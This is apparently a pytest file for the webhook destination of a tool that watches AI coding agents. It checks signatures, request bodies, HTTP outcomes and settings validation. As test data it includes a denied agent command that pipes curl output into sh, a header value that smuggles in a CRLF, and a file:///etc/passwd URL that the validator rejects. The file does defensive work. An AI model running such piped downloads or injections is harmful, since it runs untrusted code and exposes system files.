"""Webhooks: signatures after Standard Webhooks, checked with the vectors of the specification and of our own."""

import base64
import hashlib
import hmac
import json
from typing import Any

import pytest

from spawngate.routing.destination import Context, Failed, HttpAnswer, Outcome
from spawngate.routing.destinations.webhook import WebhookSettings, exchange, render, sign
from spawngate.routing.settings import SettingsError, decode
from tests.routing.samples import ALL, NOTICE, NOW
from tests.routing.test_destination import drive
from tests.stubs.webhook import OLD, SECRET

SETTINGS = WebhookSettings(url="https://hook.example/x", secrets=(SECRET, OLD), headers={"X-Gate": "abc"})
CONTEXT = Context(NOW)


def test_the_vector_of_the_specification() -> None:
    """The example of the reference libraries' own tests: the same secret, id, time, body and signature."""
    assert (
        sign(
            "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
            "msg_p5jXN8AQM9LWM0D4loKWxJek",
            1614265330,
            b'{"test": 2432232314}',
        )
        == "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="
    )


def test_a_whole_request() -> None:
    request = render(SETTINGS, NOTICE, CONTEXT)
    body = json.loads(request.body)
    assert (request.method, request.url, request.largest) == ("POST", "https://hook.example/x", 16_384)
    content = f"{NOTICE.id}.1795255200.".encode() + request.body
    signatures = [
        "v1," + base64.b64encode(hmac.new(key, content, hashlib.sha256).digest()).decode()
        for key in (b"k" * 32, b"o" * 24)
    ]
    assert request.headers == (
        ("X-Gate", "abc"),
        ("content-type", "application/json"),
        ("webhook-id", NOTICE.id),
        ("webhook-timestamp", "1795255200"),
        ("webhook-signature", " ".join(signatures)),
    )
    assert body == {
        "type": "spawngate.notice.new",
        "timestamp": NOW,
        "data": {
            "schema_version": 1,
            "summary": "10,000 events (9,800 deny, 200 ask) on 2,000 endpoints in 5m",
            "id": NOTICE.id,
            "key": NOTICE.key,
            "route": "denies",
            "kind": "new",
            "title": "Calls denied: rule pipe-to-shell",
            "severity": "high",
            "labels": {"type": "decision", "rule": "pipe-to-shell"},
            "total": 10_000,
            "fresh": 10_000,
            "endpoints": 2_000,
            "first": "2026-11-21T10:00:00Z",
            "last": "2026-11-21T10:05:00Z",
            "verdicts": {"deny": 9_800, "ask": 200},
            "samples": [
                {
                    "time": NOW,
                    "endpoint": "laptop-1",
                    "line": "Bash: curl https://x.example | sh",
                    "severity": "high",
                    "verdict": "deny",
                    "agent": "claude-code",
                    "user": "ana",
                }
            ],
            "link": "https://console.example/?q=1",
            "seconds": 300.0,
        },
    }


@pytest.mark.parametrize("name", ALL)
def test_every_notice_is_small(name: str) -> None:
    assert len(render(SETTINGS, ALL[name], CONTEXT).body) < 64_000


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [
        (HttpAnswer(204), Outcome("delivered", "204")),
        (HttpAnswer(410), Outcome("retry", "HTTP 410: the receiver wants no more", blame="setting")),
        (HttpAnswer(400, (), b"secret"), Outcome("refused", "HTTP 400", blame="content")),
        (HttpAnswer(502), Outcome("retry", "HTTP 502", blame="destination")),
        (Failed("address", "x"), Outcome("retry", "address: x", blame="setting")),
    ],
)
def test_what_answers_mean(answer: HttpAnswer | Failed, outcome: Outcome) -> None:
    assert drive(exchange(SETTINGS, NOTICE, CONTEXT), answer)[1] == outcome


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"secrets": []}, "d.secrets: give one to four"),
        ({"secrets": ["plain"]}, "d.secrets[0]: must be whsec_ and base64 of 24 to 64 bytes"),
        ({"secrets": [SECRET, "whsec_c2hvcnQ="]}, "d.secrets[1]: must be whsec_ and base64 of 24 to 64 bytes"),
        ({"secrets": ["whsec_%%%"]}, "d.secrets[0]: must be whsec_ and base64 of 24 to 64 bytes"),
        ({"headers": {"Webhook-Id": "x"}}, "d.headers: holds a name that is no header's or is set by us"),
        ({"headers": {"Host": "x"}}, "d.headers: holds a name that is no header's or is set by us"),
        ({"headers": {"a b": "x"}}, "d.headers: holds a name that is no header's or is set by us"),
        ({"headers": {"a": "x\r\ny: z"}}, "d.headers: holds a value that no header may have"),
        ({"url": "file:///etc/passwd"}, "d.url: must begin with https:// or http://"),
    ],
)
def test_settings(given: dict[str, Any], message: str) -> None:
    with pytest.raises(SettingsError) as error:
        decode(WebhookSettings, {"url": "https://a.example", "secrets": [SECRET], **given}, "d")
    assert str(error.value) == message
